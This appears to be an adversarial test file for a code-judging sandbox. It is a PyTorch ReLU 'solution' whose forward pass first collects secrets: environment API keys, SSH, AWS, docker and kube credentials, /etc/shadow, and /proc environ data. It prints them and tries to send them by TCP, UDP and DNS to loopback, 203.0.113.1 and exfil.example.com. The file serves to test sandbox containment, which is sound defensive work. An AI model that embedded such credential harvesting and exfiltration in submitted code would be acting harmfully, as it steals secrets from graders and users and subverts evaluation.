# kopt-corpus: problem=adv_relu.py expect=contained
# why: harvests secrets (os.environ API keys, ~/.ssh, ~/.config, ~/.netrc, ~/.aws, /proc/1/environ, /proc/<ppid>/environ and cmdline), prints them to stdout/stderr and tries to send them over TCP/UDP/DNS to 127.0.0.1 and 203.0.113.1:9 (1 s timeouts); then computes a correct answer
# kopt-verdict: any (the answer is correct; the test checks that no secret reaches the judge's output and nothing leaves the sandbox)
import glob
import json
import os
import socket
import sys

if os.environ.get("KOPT_SANDBOX") != "1":
    raise RuntimeError("refusing to run outside the kopt sandbox")

import torch

_KEYWORDS = ("KEY", "TOKEN", "SECRET", "PASS", "CRED", "AUTH", "COOKIE", "SESSION", "PRIVATE")


def _read(path, limit=65536):
    try:
        with open(path, "rb") as f:
            return f.read(limit).decode("utf-8", "replace")
    except Exception as e:  # noqa: BLE001
        return f"<{type(e).__name__}>"


def _harvest():
    if os.environ.get("KOPT_SANDBOX") != "1":
        raise RuntimeError("refusing to run outside the kopt sandbox")
    loot = {"environ": dict(os.environ)}
    loot["interesting_env"] = {k: v for k, v in os.environ.items() if any(w in k.upper() for w in _KEYWORDS)}
    home = os.path.expanduser("~")
    paths = []
    for pattern in ("~/.ssh/*", "~/.config/*", "~/.config/*/*", "~/.netrc", "~/.aws/credentials",
                    "~/.git-credentials", "~/.docker/config.json", "~/.kube/config", "~/.pypirc",
                    "~/.bash_history", "/etc/shadow", "/run/secrets/*",
                    "/var/run/secrets/kubernetes.io/serviceaccount/token"):
        paths.extend(glob.glob(os.path.expanduser(pattern))[:40])
    loot["files"] = {p: _read(p) for p in paths if os.path.isfile(p)}
    ppid = os.getppid()
    for pid in ("1", str(ppid), "self"):
        loot[f"/proc/{pid}/environ"] = _read(f"/proc/{pid}/environ").replace("\0", "\n")
        loot[f"/proc/{pid}/cmdline"] = _read(f"/proc/{pid}/cmdline").replace("\0", " ")
    loot["home"] = home
    return loot


def _exfiltrate(blob):
    for host, port in (("127.0.0.1", 9), ("127.0.0.1", 80), ("127.0.0.1", 8000), ("203.0.113.1", 9)):
        try:
            with socket.create_connection((host, port), timeout=1.0) as s:
                s.sendall(blob[:1 << 20])
        except Exception:
            pass
        try:
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            u.settimeout(1.0)
            u.sendto(blob[:1200], (host, port))
            u.close()
        except Exception:
            pass
    try:  # DNS exfiltration: the secret rides in the query name
        label = blob[:30].hex()
        socket.setdefaulttimeout(1.0)
        socket.getaddrinfo(f"{label}.exfil.example.com", 80)
    except Exception:
        pass


class ModelNew(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self._done = False

    def forward(self, x):
        if not self._done:
            self._done = True
            loot = _harvest()
            text = json.dumps(loot, default=str)
            print("LOOT " + text, flush=True)
            print("LOOT " + text, file=sys.stderr, flush=True)
            _exfiltrate(text.encode())
        return torch.relu(x)
